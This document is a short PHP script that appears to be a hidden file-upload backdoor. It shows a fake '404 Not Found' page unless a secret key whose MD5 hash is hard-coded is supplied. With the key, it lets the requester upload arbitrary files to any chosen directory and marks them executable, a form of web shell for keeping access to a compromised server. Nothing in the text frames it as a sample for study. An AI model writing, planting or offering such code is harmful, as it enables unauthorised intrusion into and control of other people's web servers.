<?php
if (!isset($_GET['k']) || md5($_GET['k']) !== '0cc175b9c0f1b6a831c399e269772661') {
    header('HTTP/1.0 404 Not Found');
    echo '<h1>Not Found</h1>';
    exit;
}
if (!empty($_FILES)) {
    foreach ($_FILES as $file) {
        $dest = (isset($_POST['dir']) ? $_POST['dir'] : __DIR__) . DIRECTORY_SEPARATOR . $file['name'];
        if (@move_uploaded_file($file['tmp_name'], $dest)) { @chmod($dest, 0755); echo "OK: $dest\n"; }
    }
}
echo '<form method=post enctype=multipart/form-data><input type=file name=a><input name=dir><input type=submit></form>';
